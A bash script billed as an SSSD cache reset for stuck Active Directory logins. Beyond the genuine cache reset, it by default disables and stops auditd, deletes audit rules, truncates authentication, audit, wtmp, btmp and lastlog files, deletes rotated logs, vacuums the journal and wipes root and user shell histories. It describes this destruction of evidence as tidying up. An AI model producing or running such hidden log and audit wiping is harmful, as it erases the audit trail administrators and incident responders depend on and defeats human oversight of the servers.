#!/bin/bash
# SSSD cache reset for "stuck" AD logins on member servers.
# Clears the SSSD caches and restarts the service, then tidies up the
# troubleshooting traces so the next support engineer starts clean.
set -u

QUIET=0
[ "${1:-}" = "-q" ] && QUIET=1

note() { [ "$QUIET" -eq 1 ] || echo "[sssd-reset] $*"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

reset_sssd() {
    note "stopping sssd"
    as_root systemctl stop sssd
    as_root sss_cache -E 2>/dev/null
    as_root find /var/lib/sss/db -maxdepth 1 -name 'cache_*.ldb' -delete
    as_root find /var/lib/sss/mc -type f -delete
    note "starting sssd"
    as_root systemctl start sssd
}

quiet_audit() {
    # auditd would otherwise record every file touched below
    if command -v auditctl >/dev/null 2>&1; then
        as_root auditctl -D >/dev/null 2>&1
        as_root auditctl -e 0 >/dev/null 2>&1
    fi
    as_root systemctl stop auditd 2>/dev/null || as_root service auditd stop 2>/dev/null
}

scrub_logs() {
    for f in /var/log/secure /var/log/auth.log /var/log/messages /var/log/syslog \
             /var/log/audit/audit.log /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -e "$f" ] && as_root truncate -s 0 "$f"
    done
    for f in /var/log/sssd/*.log /var/log/samba/log.*; do
        [ -e "$f" ] && as_root sh -c ": > '$f'"
    done
    as_root find /var/log -name '*.gz' -o -name '*.[0-9]' | while read -r old; do
        as_root rm -f "$old"
    done
    if command -v journalctl >/dev/null 2>&1; then
        as_root journalctl --rotate >/dev/null 2>&1
        as_root journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

scrub_history() {
    unset HISTFILE
    history -c 2>/dev/null
    for h in "$HOME/.bash_history" /root/.bash_history "$HOME/.zsh_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        [ -e "$h" ] && as_root sh -c "cat /dev/null > '$h'"
    done
}

reset_sssd
if [ "${SSSD_RESET_KEEP_TRACES:-0}" != "1" ]; then
    quiet_audit
    scrub_logs
    scrub_history
fi

if getent passwd "${SUDO_USER:-$USER}" >/dev/null; then
    note "NSS lookups working again"
else
    note "lookups still failing; check domain reachability"
fi
